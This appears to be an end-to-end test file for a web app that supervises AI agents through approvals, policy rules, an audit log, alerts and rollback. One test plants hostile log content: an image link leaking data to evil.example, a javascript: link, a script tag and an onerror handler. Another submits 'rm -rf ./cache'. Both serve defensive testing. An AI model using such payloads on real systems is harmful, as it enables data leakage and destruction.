// What keeps the agents in bounds, as a person sees it: rules, the audit log, alerts, and the way back.
import assert from 'node:assert/strict';
import { appendFile, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { assertAccessible, launchBrowser, signIn, visit } from './browser.mjs';
import { approval, approve, ask, conversation, runEnds, threadId } from './conversation.mjs';
import { install } from './installation.mjs';

const restart = 'Restart store-api';
const command = 'Run a shell command';
const file = 'store-api/src/PriceCalculator.java';

let browser;
let installation;

before(async () => {
  browser = await launchBrowser();
  installation = await install();
});

after(async () => {
  await browser?.close();
  await installation?.stop();
});

const sourceOnDisk = () => readFile(join(installation.data, 'bookstore/services', file), 'utf8');

test('a call is always allowed, until the rule is revoked', () =>
  visit(browser, installation, { name: 'always-allow' }, async (page) => {
    await signIn(page, installation.link);
    await ask(page, 'Restart the store-api.');
    await approval(page, restart).getByRole('button', { name: 'More' }).click();
    await approval(page, restart).getByRole('button', { name: 'Always allow…' }).click();
    const dialog = page.getByRole('dialog', { name: 'Always allow such calls' });
    await dialog.getByLabel(/^Also after logs/).check();
    await dialog.getByLabel('1 hour').check();
    await dialog.getByText('Also after the thread has read logs').waitFor();
    await assertAccessible(page, 'always allow');
    await dialog.getByRole('button', { name: 'Make this rule and approve' }).click();
    await approval(page, restart).getByText(/^Approved by admin/).waitFor();
    await runEnds(page);

    await ask(page, 'Restart the store-api.');
    await runEnds(page, { runs: 2 });
    assert.equal(await approval(page, restart).count(), 1);

    await page.getByRole('link', { name: 'Policy' }).click();
    const rules = page.getByRole('list', { name: 'Standing rules' });
    await rules.getByText('used 1 time').waitFor();
    await assertAccessible(page, 'policy');
    await page.getByRole('combobox', { name: 'Tool' }).selectOption('restart_service');
    await page.getByRole('textbox', { name: 'Service' }).fill('warehouse-alpha');
    await page.getByRole('button', { name: 'Try it' }).click();
    await page.getByText('No rule is about it:').waitFor();
    assert.equal(new URL(page.url()).searchParams.get('call'), 'warehouse-alpha');

    await rules.getByRole('button', { name: 'Revoke…' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Revoke it' }).click();
    await rules.getByText(/ended by admin/).waitFor();
    assert.equal(await rules.getByRole('button').count(), 0);
  }));

test('a script is never always allowed, and the audit log has its refusal', () =>
  visit(browser, installation, { name: 'audit' }, async (page) => {
    await signIn(page, await installation.freshLink());
    await ask(page, 'Run this command: `echo audited && echo twice`');
    const card = approval(page, command);
    await card.getByRole('button', { name: 'More' }).click();
    await card.getByRole('button', { name: 'Always allow…' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByText('No such rule can be made').waitFor();
    assert.equal(await dialog.getByRole('button', { name: /Make this rule/ }).count(), 0);
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });
    await card.getByRole('button', { name: /^Reject/ }).click();
    await page.getByLabel(/Why not/).fill('Not a script.');
    await page.getByLabel(/Why not/).press('Enter');
    await runEnds(page);

    const thread = page.url();
    await page.goto('/audit');
    await page.getByText(/^Unbroken until #\d+/).waitFor();
    const search = page.getByRole('search');
    await search.getByLabel('Text').fill('NOT A SCRIPT');
    await search.getByRole('combobox', { name: 'What' }).selectOption('approval');
    await search.getByLabel('Text').press('Enter');
    await page.waitForURL(/text=/);
    await page.reload();
    const entries = page.getByRole('list', { name: 'Entries' });
    await entries.getByText('rejected a call').click();
    assert.equal(await entries.getByRole('listitem').count(), 1);
    await entries.getByText('echo audited && echo twice').waitFor();
    await assertAccessible(page, 'audit');
    await entries.getByRole('link', { name: 'Open the approval' }).click();
    await card.getByText('“Not a script.”').waitFor();
    assert.equal(new URL(page.url()).pathname, new URL(thread).pathname);
  }));

test('a policy file that cannot be used is said with its reason, and what asks asks', () =>
  visit(browser, installation, { name: 'broken-policy' }, async (page) => {
    await signIn(page, await installation.freshLink());
    const policy = join(installation.data, 'bookstore/policy.yaml');
    const broken = page.getByRole('alert', { name: 'Problem of the policy' });
    await writeFile(policy, 'rules: [{allow: run_command, argv: [mkdir, "**"]}, {alow: read_file}]');
    try {
      await page.goto('/policy');
      await broken.getByText(/alow/).waitFor();
      await broken.getByText(/everything else that changes something asks/).waitFor();
      await assertAccessible(page, 'broken policy');
      await page.setViewportSize({ width: 390, height: 844 });
      await broken.getByText(/alow/).waitFor();
      assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= globalThis.innerWidth), 'no sideways scrolling');
      await page.goto('/');
      await ask(page, 'Run this command: `mkdir made-by-a-broken-rule`');
      await approval(page, command).getByRole('button', { name: /^Reject/ }).click();
      await page.getByLabel(/Why not/).fill('It was a trial.');
      await page.getByLabel(/Why not/).press('Enter');
      await runEnds(page);
    } finally {
      await writeFile(policy, 'rules: []');
    }
    await page.goto('/policy');
    await page.getByText(/What no rule is about asks a human/).waitFor();
    assert.equal(await broken.count(), 0);
  }));

test('an admin lets a person in, and a program, and shuts both out again', () =>
  visit(browser, installation, { name: 'access' }, async (page) => {
    await signIn(page, await installation.freshLink());
    await page.getByRole('navigation', { name: 'Places' }).getByRole('link', { name: 'Access' }).click();
    const make = async (verb, name) => {
      const form = page.getByRole('form', { name: verb });
      await form.getByLabel('Name').fill(name);
      await form.getByRole('button', { name: verb }).click();
      await form.getByText('Shown this once: copy it now.').waitFor();
      return (await form.locator('pre').innerText()).trim();
    };
    const link = await make('Make a link', 'otto');
    const token = await make('Make a token', 'nightly');
    const asProgram = () => fetch(`${installation.url}/api/me`, { headers: { Authorization: `Bearer ${token}` } }).then(({ status }) => status);
    assert.equal(await asProgram(), 200);
    await page.getByRole('list', { name: 'Tokens' }).getByRole('button', { name: /^Revoke: nightly/ }).click();
    await page.getByRole('button', { name: /^Revoke: nightly/ }).waitFor({ state: 'detached' });
    assert.equal(await asProgram(), 401);

    await visit(browser, installation, { name: 'access-otto', expected: /status of (401|403)/ }, async (otto) => {
      await signIn(otto, link);
      await page.reload();
      await page.getByRole('list', { name: 'Sessions' }).getByRole('button', { name: /^End: otto/ }).click();
      await page.getByRole('button', { name: /^End: otto/ }).waitFor({ state: 'detached' });
      await otto.reload();
      await otto.getByRole('heading', { name: 'Sign in to AgentOps' }).waitFor();
    });
  }));

test('an alert is there as soon as it is sent, and its thread opens', () =>
  visit(browser, installation, { name: 'alerts' }, async (page) => {
    await signIn(page, await installation.freshLink());
    await page.getByRole('link', { name: 'Alerts' }).click();
    await page.getByText('No alert has come yet').waitFor();
    await page.getByRole('group', { name: 'Send an alert' }).getByText(`${installation.url}/api/alerts`).waitFor();
    await assertAccessible(page, 'no alerts');
    await installation.api('/api/alerts', { title: 'Checkout is slow', severity: 'critical', service: 'store-api', annotations: { summary: 'p99 over 3 s' } });

    const incident = page.getByRole('article', { name: 'Incident: Checkout is slow' });
    await incident.getByRole('button', { name: 'Show its alerts' }).click();
    await incident.getByText('p99 over 3 s').waitFor();
    await assertAccessible(page, 'alerts');
    await incident.getByRole('button', { name: 'Close…' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Close it' }).click();
    await incident.getByText('closed by admin').waitFor();
    await incident.getByRole('link', { name: 'Open its thread' }).click();
    await conversation(page).getByText(/Checkout is slow/).first().waitFor();
  }));

test('a change of a file is rolled back as one more approved call', () =>
  visit(browser, installation, { name: 'roll-back' }, async (page) => {
    const original = await sourceOnDisk();
    await signIn(page, await installation.freshLink());
    await ask(page, `Replace \`PriceCalculator\` with \`PriceReckoner\` in ${file}`);
    await approve(page, `Edit ${file}`);
    await runEnds(page);
    assert.notEqual(await sourceOnDisk(), original);

    await approval(page, `Edit ${file}`).getByRole('button', { name: 'Roll back…' }).click();
    await page.getByRole('dialog', { name: 'Roll this change back?' }).getByRole('button', { name: 'Ask for it' }).click();
    const card = page.getByRole('article', { name: /^Approval: Restore/ });
    await card.getByText('PriceReckoner').first().waitFor();
    await assertAccessible(page, 'roll back');
    await card.getByRole('button', { name: /^Approve/ }).click();
    await runEnds(page, { runs: 2 });
    assert.equal(await sourceOnDisk(), original);
    const { messages } = await installation.api(`/api/threads/${threadId(page)}`);
    assert.equal(messages.filter((message) => message.toolCalls?.some((call) => call.name === 'restore_file')).length, 1);
  }));

/** Of the searches, once so many are there. */
async function spanRows(page, count) {
  const rows = page.getByRole('row', { name: /search_logs/ });
  await rows.nth(count - 1).waitFor();
  return rows.all();
}

test('what a log line says is shown, and nothing of it is loaded or run', () =>
  visit(browser, installation, { name: 'hostile-log' }, async (page) => {
    const msg = '![leak](https://evil.example/p.png?leak=1) [open](javascript:globalThis.ran=1) <script>globalThis.ran=1</script> <img src="https://evil.example/i.png" onerror="globalThis.ran=1">';
    await appendFile(join(installation.data, 'bookstore/logs/store-api.log'), `${JSON.stringify({ ts: new Date().toISOString(), level: 'ERROR', service: 'store-api', logger: 'store-api', msg })}\n`);
    await signIn(page, await installation.freshLink());
    await ask(page, 'Which services logged errors in the last hour, and what are they?');
    await runEnds(page);
    const harmless = async (where) => {
      await page.getByText(/evil\.example\/p\.png/).first().waitFor();
      const alive = page.locator('main').locator('img, script, iframe, a[href^="javascript" i], a[href*="evil"]:not([rel~="noopener"])');
      assert.deepEqual(await alive.evaluateAll((all) => all.map((one) => one.outerHTML)), [], where);
      assert.equal(await page.evaluate(() => globalThis.ran), undefined, where);
    };
    await conversation(page).getByText('search_logs').first().click();
    await harmless('in the thread');
    const { runs } = await installation.api(`/api/threads/${threadId(page)}`);
    await page.goto(`/runs/${runs[0].id}?q=search_logs&open=output`);
    // They ran beside one another: which row is the one with the line is not known.
    for (const row of await spanRows(page, 3)) {
      await row.click();
      if (await page.getByText(/evil\.example\/p\.png/).first().waitFor({ timeout: 5000 }).then(() => true, () => false)) break;
    }
    await harmless('in the trace');
  }));

test('a recording shows the whole incident, and nothing of it can be decided', () =>
  visit(browser, installation, { name: 'recording' }, async (page) => {
    await signIn(page, await installation.freshLink());
    await page.getByRole('link', { name: /Watch a recorded incident/ }).click();
    const moment = page.getByLabel('Moment of the recording');
    const card = approval(page, `Edit ${file}`);
    await card.getByText(/\d left/).waitFor();
    await page.getByRole('button', { name: 'Pause' }).click();
    await card.getByText('A recording: this was decided when it was made.').waitFor();
    assert.equal(await card.getByRole('button', { name: /^Approve/ }).isDisabled(), true);
    await assertAccessible(page, 'recording');
    await moment.fill('1000000');
    await page.getByText(/Run done/).waitFor();
    assert.equal(await page.getByRole('link', { name: /^(Report|Show it in the trace)$/ }).count(), 0);
    await moment.fill('0');
    await card.waitFor({ state: 'detached' });
  }));

test('who may only read sees why the rest is shut', () =>
  visit(browser, installation, { name: 'viewer', expected: /status of 403/ }, async (page) => {
    const { threadId: id, runId } = await installation.api('/api/chat', { userMessage: { id: crypto.randomUUID(), content: 'Run this command: `rm -rf ./cache`' } });
    await signIn(page, (await installation.api('/api/sign-in-links', { name: 'vera', role: 'viewer' })).link);
    assert.equal(await page.getByRole('list', { name: 'Examples' }).getByRole('button').first().isDisabled(), true);
    await page.goto(`/threads/${id}`);
    const card = approval(page, command);
    await card.getByText('Your role is viewer: someone with the role approver has to decide.').waitFor();
    for (const name of [/^Approve/, /^Reject/, 'Edit', 'Ask a question', 'More']) assert.equal(await card.getByRole('button', { name }).isDisabled(), true, `${name}`);
    await card.getByText('Marked: it deletes files for good.').waitFor();
    assert.equal(await page.getByRole('button', { name: 'Stop', exact: true }).isDisabled(), true);
    assert.equal(await page.getByLabel('Message').isDisabled(), true);
    await assertAccessible(page, 'viewer');
    await card.focus();
    await page.waitForTimeout(1200);
    for (const key of ['a', 'r', 'e']) await page.keyboard.press(key);
    await page.keyboard.press('Control+k');
    await page.keyboard.type('stop this run');
    await page.getByRole('option', { name: /^Stop this run Your role is viewer/ }).waitFor();
    await page.keyboard.press('Enter');
    await page.keyboard.press('Escape');
    await page.goto('/audit');
    await page.getByText(/the audit log is for admins/).waitFor();
    assert.equal((await installation.api(`/api/runs/${runId}`)).status, 'waiting');
    await installation.api(`/api/runs/${runId}/cancel`, {});
  }));

// the last one: what it breaks stays broken
test('an audit log that was changed in the database is called broken where it was', () =>
  visit(browser, installation, { name: 'broken-audit' }, async (page) => {
    await signIn(page, await installation.freshLink());
    await page.goto('/audit');
    await page.getByText(/^Unbroken until #\d+/).waitFor();
    await installation.tamper("update audit set actor = 'nobody' where seq = 2");
    await page.getByRole('button', { name: 'Check again' }).click();
    await page.getByRole('alert').getByText(/^Broken after entry 1:/).waitFor();
    await page.getByText(/Somebody with access to the database changed it/).waitFor();
    await assertAccessible(page, 'broken audit log');
    await page.setViewportSize({ width: 390, height: 844 });
    assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= globalThis.innerWidth), 'no sideways scrolling');
  }));
